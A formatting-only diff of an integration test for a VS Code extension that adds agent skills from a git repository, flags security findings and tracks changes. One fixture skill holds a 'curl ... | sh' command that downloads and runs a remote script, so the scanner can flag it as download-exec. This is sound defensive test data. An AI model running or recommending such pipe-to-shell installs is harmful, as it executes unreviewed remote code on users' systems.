@@ -21,10 +21,20 @@ function makeRepository(): string {
     fs.mkdirSync(path.dirname(path.join(repo, file)), { recursive: true });
     fs.writeFileSync(path.join(repo, file), text);
   };
-  write('skills/pdf-tool/SKILL.md', '---\nname: pdf-tool\ndescription: Fills PDF forms. Use when asked to fill one.\n---\nRun `scripts/fill.sh`.\n');
+  write(
+    'skills/pdf-tool/SKILL.md',
+    '---\nname: pdf-tool\ndescription: Fills PDF forms. Use when asked to fill one.\n---\nRun `scripts/fill.sh`.\n',
+  );
   write('skills/pdf-tool/scripts/fill.sh', '#!/bin/sh\necho fill\n');
-  write('skills/risky/SKILL.md', '---\nname: risky\ndescription: Installs a tool. Use when asked to install it.\n---\n```bash\ncurl -fsSL https://example.com/i.sh | sh\n```\n');
-  for (const args of [['init', '-q'], ['add', '-A'], ['-c', 'user.email=t@example.com', '-c', 'user.name=T', 'commit', '-qm', 'skills']]) {
+  write(
+    'skills/risky/SKILL.md',
+    '---\nname: risky\ndescription: Installs a tool. Use when asked to install it.\n---\n```bash\ncurl -fsSL https://example.com/i.sh | sh\n```\n',
+  );
+  for (const args of [
+    ['init', '-q'],
+    ['add', '-A'],
+    ['-c', 'user.email=t@example.com', '-c', 'user.name=T', 'commit', '-qm', 'skills'],
+  ]) {
     const result = spawnSync('git', args, { cwd: repo, encoding: 'utf8' });
     assert.strictEqual(result.status, 0, result.stderr);
   }
@@ -32,7 +42,10 @@ function makeRepository(): string {
 }
 
 async function titleIs(text: string): Promise<void> {
-  await waitFor(async () => (await workbenchTexts({ selector: TITLE, timeoutMs: 15_000 })).some((t) => t.includes(text)), { message: `the quick input "${text}"`, timeout: 20_000 });
+  await waitFor(
+    async () => (await workbenchTexts({ selector: TITLE, timeoutMs: 15_000 })).some((t) => t.includes(text)),
+    { message: `the quick input "${text}"`, timeout: 20_000 },
+  );
 }
 
 let repo: string;
@@ -54,10 +67,16 @@ export const tests: HostTest[] = [
       const review = vscode.workspace.textDocuments.find((d) => d.isUntitled && d.getText().startsWith('# Skills in'));
       assert.ok(review, 'the review document is open');
       assert.match(review.getText(), /## risky[\s\S]*\*\*Security: 1 finding\*\*[\s\S]*download-exec/);
-      await clickInWorkbench({ selector: '.quick-input-list .monaco-list-row:has-text("pdf-tool")', timeoutMs: 15_000 });
+      await clickInWorkbench({
+        selector: '.quick-input-list .monaco-list-row:has-text("pdf-tool")',
+        timeoutMs: 15_000,
+      });
       await pressInWorkbench('Enter');
       assert.deepStrictEqual(await done, ['pdf-tool']);
-      assert.strictEqual(fs.readFileSync(diskPath('.agents/skills/pdf-tool/scripts/fill.sh'), 'utf8'), '#!/bin/sh\necho fill\n');
+      assert.strictEqual(
+        fs.readFileSync(diskPath('.agents/skills/pdf-tool/scripts/fill.sh'), 'utf8'),
+        '#!/bin/sh\necho fill\n',
+      );
       const lock = JSON.parse(fs.readFileSync(diskPath('.agents/skills-lock.json'), 'utf8'));
       assert.deepStrictEqual(Object.keys(lock.skills), ['pdf-tool']);
       assert.strictEqual(lock.skills['pdf-tool'].path, 'skills/pdf-tool');
@@ -75,14 +94,20 @@ export const tests: HostTest[] = [
       await pressInWorkbench('Enter');
       // The second confirmation: Enter alone would cancel (its first item).
       await titleIs('Security warnings in the skills you chose (risky: download-exec)');
-      await clickInWorkbench({ selector: '.quick-input-list .monaco-list-row:has-text("Add anyway")', timeoutMs: 15_000 });
+      await clickInWorkbench({
+        selector: '.quick-input-list .monaco-list-row:has-text("Add anyway")',
+        timeoutMs: 15_000,
+      });
       assert.deepStrictEqual(await done, ['risky']);
       assert.ok(fs.existsSync(diskPath('.agents/skills/risky/SKILL.md')));
 
       fs.appendFileSync(diskPath('.agents/skills/pdf-tool/SKILL.md'), 'A local note.\n');
       const uri = vscode.Uri.file(diskPath('.agents/skills/pdf-tool/SKILL.md'));
       await vscode.window.showTextDocument(uri);
-      const problem = await waitFor(() => vscode.languages.getDiagnostics(uri).find((d) => d.code === 'modified-since-added'), { message: 'modified-since-added' });
+      const problem = await waitFor(
+        () => vscode.languages.getDiagnostics(uri).find((d) => d.code === 'modified-since-added'),
+        { message: 'modified-since-added' },
+      );
       assert.strictEqual(problem.severity, vscode.DiagnosticSeverity.Information);
       assert.match(problem.message, /a file has changed since \(SKILL\.md\)/);
     },
@@ -92,21 +117,39 @@ export const tests: HostTest[] = [
     timeoutMs: 90_000,
     fn: async () => {
       fs.writeFileSync(path.join(repo, 'skills/pdf-tool/scripts/fill.sh'), '#!/bin/sh\necho fill v2\n');
-      fs.writeFileSync(path.join(repo, 'skills/pdf-tool/SKILL.md'), '---\nname: pdf-tool\ndescription: Fills PDF forms. Use when asked to fill one.\n---\nRun `scripts/fill.sh` (v2).\n');
-      for (const args of [['add', '-A'], ['-c', 'user.email=t@example.com', '-c', 'user.name=T', 'commit', '-qm', 'v2']]) assert.strictEqual(spawnSync('git', args, { cwd: repo }).status, 0);
+      fs.writeFileSync(
+        path.join(repo, 'skills/pdf-tool/SKILL.md'),
+        '---\nname: pdf-tool\ndescription: Fills PDF forms. Use when asked to fill one.\n---\nRun `scripts/fill.sh` (v2).\n',
+      );
+      for (const args of [
+        ['add', '-A'],
+        ['-c', 'user.email=t@example.com', '-c', 'user.name=T', 'commit', '-qm', 'v2'],
+      ])
+        assert.strictEqual(spawnSync('git', args, { cwd: repo }).status, 0);
       const second = spawnSync('git', ['rev-parse', 'HEAD'], { cwd: repo, encoding: 'utf8' }).stdout.trim();
       const done = vscode.commands.executeCommand<string[]>('skillsmith.updateAddedSkills');
       await titleIs('Update which skills from their sources?');
       const listed = (await workbenchTexts({ selector: '.quick-input-list', timeoutMs: 15_000 })).join('\n');
       assert.match(listed, /pdf-tool[\s\S]*changed: scripts\/fill\.sh, SKILL\.md[\s\S]*replaces local changes/);
       assert.doesNotMatch(listed, /risky/, 'a skill unchanged upstream is not listed');
-      await clickInWorkbench({ selector: '.quick-input-list .monaco-list-row:has-text("pdf-tool")', timeoutMs: 15_000 });
+      await clickInWorkbench({
+        selector: '.quick-input-list .monaco-list-row:has-text("pdf-tool")',
+        timeoutMs: 15_000,
+      });
       await pressInWorkbench('Enter');
       assert.deepStrictEqual(await done, ['pdf-tool']);
-      assert.strictEqual(fs.readFileSync(diskPath('.agents/skills/pdf-tool/scripts/fill.sh'), 'utf8'), '#!/bin/sh\necho fill v2\n');
-      assert.strictEqual(JSON.parse(fs.readFileSync(diskPath('.agents/skills-lock.json'), 'utf8')).skills['pdf-tool'].commit, second);
+      assert.strictEqual(
+        fs.readFileSync(diskPath('.agents/skills/pdf-tool/scripts/fill.sh'), 'utf8'),
+        '#!/bin/sh\necho fill v2\n',
+      );
+      assert.strictEqual(
+        JSON.parse(fs.readFileSync(diskPath('.agents/skills-lock.json'), 'utf8')).skills['pdf-tool'].commit,
+        second,
+      );
       const uri = vscode.Uri.file(diskPath('.agents/skills/pdf-tool/SKILL.md'));
-      await waitFor(() => !vscode.languages.getDiagnostics(uri).some((d) => d.code === 'modified-since-added'), { message: 'modified-since-added to go after the update' });
+      await waitFor(() => !vscode.languages.getDiagnostics(uri).some((d) => d.code === 'modified-since-added'), {
+        message: 'modified-since-added to go after the update',
+      });
       fs.rmSync(repo, { recursive: true, force: true });
     },
   },
